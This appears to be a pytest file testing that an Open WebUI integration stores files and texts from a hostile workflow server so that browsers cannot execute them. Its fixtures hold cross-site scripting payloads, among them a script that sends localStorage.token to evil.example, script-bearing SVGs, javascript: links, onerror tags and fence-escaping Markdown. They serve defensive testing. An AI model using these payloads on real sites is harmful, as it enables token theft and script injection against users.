"""Files of a hostile server: what a browser would run.

Open WebUI serves what is stored. So what a browser executes is stored such that no route of it runs it, whatever the
file is called; what is inert keeps its ending, so that it can be used. What a file is, its content decides. The
dialog of a text shows text: no Markdown, no address is loaded, a fence cannot be closed from inside.
"""

import json
import mimetypes
import re
from typing import Any

import pytest

from tests.attacks.hostile import HostileServer
from tests.attacks.house import House, Stored, valves
from tests.attacks.table import each, told
from tests.support.pictures import png
from tests.support.samples import glb, recorded

# Content types that no browser runs, whatever is in them.
INERT = re.compile(
    r"text/plain(;.*)?|application/octet-stream|image/(png|jpeg|webp|gif|avif|bmp|tiff)|(video|audio)/[\w.+-]+"
)
PLAIN = re.compile(r"text/plain(;.*)?|application/octet-stream")

SCRIPT = "<script>fetch('//evil.example/' + localStorage.token)</script>"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="9" height="9"/>{SCRIPT}</svg>'
RUNS: dict[str, tuple[str, bytes]] = {
    "a page": ("a.html", f"<!doctype html>{SCRIPT}".encode()),
    "a page with another ending": ("a.htm", SCRIPT.encode()),
    "a page in capitals": ("A.HTML", SCRIPT.encode()),
    "a page of XML": ("a.xhtml", f'<html xmlns="http://www.w3.org/1999/xhtml">{SCRIPT}</html>'.encode()),
    "a page of XML with its other ending": ("a.xht", SCRIPT.encode()),
    "a page that is called a picture": ("a.png", f"<html>{SCRIPT}".encode()),
    "a page that is called a text": ("a.txt", f"<html>{SCRIPT}".encode()),
    "a page that is called nothing": ("a", f"<html>{SCRIPT}".encode()),
    "a page behind spaces": ("a.unknown", b" " * 600 + f"<html>{SCRIPT}".encode()),
    "a page behind a picture": ("a.html", png() + SCRIPT.encode()),
    "a page in another encoding": ("a.html", f"<html>{SCRIPT}".encode("utf-16")),
    "a page with its type behind": ("a.mhtml", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + SCRIPT.encode()),
    "a page of a server": ("a.shtml", SCRIPT.encode()),
    "a drawing": ("a.svg", SVG.encode()),
    "a drawing that is called a picture": ("a.png", SVG.encode()),
    "a drawing that is called a text": ("a.txt", SVG.encode()),
    "a drawing in capitals": ("A.SVG", SVG.upper().encode()),
    "a drawing, packed": ("a.svgz", b"\x1f\x8b\x08" + SVG.encode()),
    "a drawing behind a comment": ("a.svg", b"<!--" + b"-" * 5000 + b"-->" + SVG.encode()),
    "a drawing in another encoding": ("a.svg", SVG.encode("utf-16")),
    "a drawing that is no drawing": ("a.svg", b"a"),
    "XML": ("a.xml", b'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'),
    "a style sheet of XML": ("a.xsl", b'<?xml version="1.0"?><xsl:stylesheet/>'),
    "a feed": ("a.rss", b'<?xml version="1.0"?><rss/>'),
    "a formula": ("a.mathml", b"<math><maction actiontype='statusline#http://x' xlink:href='javascript:1'/></math>"),
    "a program": ("a.js", b"alert(1)"),
    "a module": ("a.mjs", b"alert(1)"),
    "a style": ("a.css", b"@import '//evil.example'"),
    "a name with two endings": ("a.png.html", SCRIPT.encode()),
    "a name that ends in a dot": ("a.html.", SCRIPT.encode()),
    "a name that ends in a space": ("a.html ", SCRIPT.encode()),
    "a name with a zero in it": ("a.html\0.png", SCRIPT.encode()),
}
INERT_FILES: dict[str, bytes] = {
    "json": b'{"a": 1}',
    "csv": b"a,b",
    "srt": b"1\n00:00:00,000 --> 00:00:01,000\nA fox",
    "vtt": b"WEBVTT\n\n00:00.000 --> 00:01.000\nA fox",
    "txt": b"a fox",
    "obj": b"v 0 0 0",
    "stl": b"solid a",
    "ply": b"ply\nformat ascii 1.0",
    "glb": glb({}),
    "gltf": b'{"asset": {"version": "2.0"}}',
    "fbx": b"Kaydara FBX Binary  \0",
    "usdz": b"PK\3\4" + bytes(40),
    "latent": bytes(99),
    "safetensors": (2).to_bytes(8, "little") + b"{}",
    "exr": b"\x76\x2f\x31\x01" + bytes(20),
    "mid": b"MThd\0\0\0\6\0\0\0\1\0\x60",
    "hdr": b"#?RADIANCE\n",
    "npy": b"\x93NUMPY\1\0",
    "splat": bytes(64),
    "spz": b"\x1f\x8b\x08\0",
    "zip": b"PK\3\4" + bytes(40),
    "md": b"# A fox",
}


async def made(home: House, server: HostileServer, name: str, data: bytes, **more: Any) -> list[Stored]:
    """What is stored of a file that a run made."""
    server.outputs = {"1": {"images": [{"filename": name, "subfolder": "", "type": "output"}]}}
    server.files["*"] = data
    await home.call("run_workflow", workflow="w", valves=valves(server, **more))
    return home.stored


def served_as(stored: Stored) -> set[str]:
    """The content types under which Open WebUI serves a file: by what it was told, and by its name."""
    guessed, packed = mimetypes.guess_type(stored.filename)  # as Starlette does
    return {stored.content_type, "application/octet-stream" if packed else guessed or "text/plain"}


def runs(stored: Stored) -> bool:
    """Whether a route of Open WebUI serves a file such that a browser may run it."""
    return not all(INERT.fullmatch(kind) for kind in served_as(stored))


@pytest.mark.parametrize(
    "attack",
    each(
        RUNS,
    ),
)
async def test_what_a_browser_executes_is_stored_such_that_no_route_runs_it(
    home: House, server: HostileServer, attack: tuple[str, bytes]
) -> None:
    for stored in await made(home, server, *attack):
        assert not runs(stored), f"{stored.filename} as {served_as(stored)}"


@pytest.mark.parametrize("attack", each({name: row for name, row in RUNS.items() if "drawing" in name}))
@pytest.mark.parametrize("wanted", ["WebP", "PNG"])
async def test_a_drawing_does_not_run_in_any_format(
    home: House, server: HostileServer, attack: tuple[str, bytes], wanted: str
) -> None:
    for stored in await made(home, server, *attack, picture_format=wanted, strip_metadata=True):
        assert not runs(stored), f"{stored.filename} as {served_as(stored)}"


@pytest.mark.parametrize("name", ["a.svg", "a.SVG"])
async def test_a_drawing_reaches_the_user(home: House, server: HostileServer, name: str) -> None:
    plain = SVG.replace(SCRIPT, "")
    assert await made(home, server, name, plain.encode())


@pytest.mark.parametrize("ending", INERT_FILES)
async def test_what_is_inert_keeps_its_ending_and_has_a_type_that_no_browser_runs(
    home: House, server: HostileServer, ending: str
) -> None:
    (stored,) = await made(home, server, f"a.{ending}", INERT_FILES[ending])
    assert stored.filename.endswith(f".{ending}")
    assert PLAIN.fullmatch(stored.content_type)
    assert stored.data == INERT_FILES[ending]


@pytest.mark.parametrize(
    ("name", "data", "kind", "ending"),
    [
        ("a.html", png(), "image/png", "png"),
        ("a.svg", png(), "image/png", "png"),
        ("a.txt", recorded("clip.mp4"), "video/mp4", "mp4"),
        ("a.js", recorded("sound.flac"), "audio/flac", "flac"),
    ],
    ids=["a picture", "a picture called a drawing", "a film", "a sound"],
)
async def test_a_files_type_is_told_by_what_is_in_it(
    home: House, server: HostileServer, name: str, data: bytes, kind: str, ending: str
) -> None:
    (stored,) = await made(home, server, name, data)
    assert stored.content_type == kind
    assert stored.filename.endswith(f".{ending}")


@pytest.mark.parametrize(("name", "data"), [("a.png", b"\0\1\2\3 no picture"), ("a.mp4", b"no film")])
async def test_what_is_not_what_its_name_says_is_not_stored(
    home: House, server: HostileServer, name: str, data: bytes
) -> None:
    assert not await made(home, server, name, data)


# --- texts and their dialogs ---

TEXTS: dict[str, str] = {
    "Markdown": "# A fox\n\n![x](https://evil.example/pixel.png)\n\n[click](javascript:alert(1))",
    "HTML": f"<img src=https://evil.example/x onerror=alert(1)>{SCRIPT}<iframe src=//evil.example></iframe>",
    "the end of a fence": "```\n\n![x](https://evil.example/pixel.png)",
    "the end of a long fence": "`" * 40 + "\n![x](https://evil.example/pixel.png)\n" + "`" * 40,
    "the end of another fence": "~~~\n![x](https://evil.example/pixel.png)\n~~~~~~~~",
    "the end of a fence behind spaces": "a\n   ````\n![x](https://evil.example/pixel.png)",
    "the end of a fence in other lines": "a\r```\r![x](https://evil.example/pixel.png)\x0b```\u2028```\n```",
    "the end of an element": "</pre></code></p></div></details><img src=https://evil.example/x>",
    "a formula": "$$\\href{javascript:alert(1)}{x}$$",
    "a mention": '<@U:1|x> <details type="reasoning" done="true"><summary>x</summary></details>',
    "JSON with a fence": json.dumps({"a": 1}, indent=0)[:-1] + ',"b":"x"}\n```\n![x](https://evil.example/x)',
}


def only_text(page: str, text: str) -> bool:
    """Whether a page in Markdown shows a text as nothing but text, or does not show it at all."""
    if "evil.example" not in page and "javascript:" not in page and "<" not in page:
        return True
    lines = re.split(r"\r\n|[\n\r\x0b\x0c\x1c-\x1e\x85\u2028\u2029]", page.strip("\n"))
    opening = re.match(r"(`{3,}|~{3,})[\w-]*$", lines[0])
    if not opening or lines[-1].strip() != opening[1]:
        return False
    mark = opening[1][0]
    ends = [line for line in lines[1:-1] if re.fullmatch(rf"\s*{mark}{{{len(opening[1])},}}\s*", line)]
    return not ends


@pytest.mark.parametrize("text", each(TEXTS))
@pytest.mark.parametrize("way", ["a.txt", "a.md", "a.json", "a.csv", "shown by a node"])
async def test_the_dialog_of_a_text_shows_text(home: House, server: HostileServer, text: str, way: str) -> None:
    if way == "shown by a node":
        server.outputs = {"1": {"text": [text]}}
        await home.call("run_workflow", workflow="w", valves=valves(server))
    else:
        await made(home, server, way, text.encode())
    assert home.stored
    for stored in home.stored:
        assert only_text(stored.page, text), stored.page


@pytest.mark.parametrize(
    "name", ["a](javascript:alert(1)).bin", 'a.bin" onerror="alert(1)', "a\n# b.bin", "a.b<script>"]
)
async def test_a_files_name_is_no_markdown_either(home: House, server: HostileServer, name: str) -> None:
    for stored in await made(home, server, name, b"\0\1"):
        assert "alert" not in stored.page + stored.filename
        assert "<" not in stored.filename


async def test_half_an_emoji_goes_neither_into_the_chat_nor_into_a_file(home: House, server: HostileServer) -> None:
    server.outputs = {"1": {"images": [{"filename": "a.png", "subfolder": "", "type": "output"}], "text": ["\ud83e x"]}}
    server.files = {"*": png()}
    answer = await home.call("run_workflow", workflow="w", prompt="a fox \ud83e", valves=valves(server))
    assert answer["text"] == [" x"]
    for text in (told(answer), home.shown, *(kept.filename + kept.page for kept in home.stored)):
        text.encode()
    refused = await home.call("generate_image", prompt="a fox", model="\ud83e", valves=valves(server))
    told(refused).encode()
